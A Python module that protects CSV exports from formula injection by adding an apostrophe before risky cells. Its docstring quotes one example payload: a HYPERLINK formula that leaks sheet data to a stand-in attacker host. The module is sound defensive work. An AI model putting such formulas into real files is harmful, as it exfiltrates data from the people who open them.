"""Cells a spreadsheet opens as text, never as a formula (OWASP's CSV injection advice).

A spreadsheet runs a cell that starts with ``= + - @``, a tab or a carriage return as a
formula: ``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` in a file we wrote
would send the sheet's data away when clicked. Every text cell we write in CSV (glossary
exports, translated CSV, the QA report) goes through :func:`neutralise`, which puts an
apostrophe before such a cell, and before a cell that already starts with one, so that
:func:`unescape` gives back exactly the original value when we read our own file again.
"""

from __future__ import annotations

import re
from typing import Final

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
ESCAPE_PREFIX: Final = "'"
_ESCAPED: Final = (*FORMULA_TRIGGERS, ESCAPE_PREFIX)
ESCAPED_CELL: Final = re.compile("'[=+\\-@\t\r']")


def neutralise(cell: str) -> str:
    """The cell as we write it: a spreadsheet shows it as text, never runs it."""
    return ESCAPE_PREFIX + cell if cell.startswith(_ESCAPED) else cell


def unescape(cell: str) -> str:
    """Undo :func:`neutralise` (a no-op for every cell it left alone)."""
    return cell[1:] if ESCAPED_CELL.match(cell) else cell
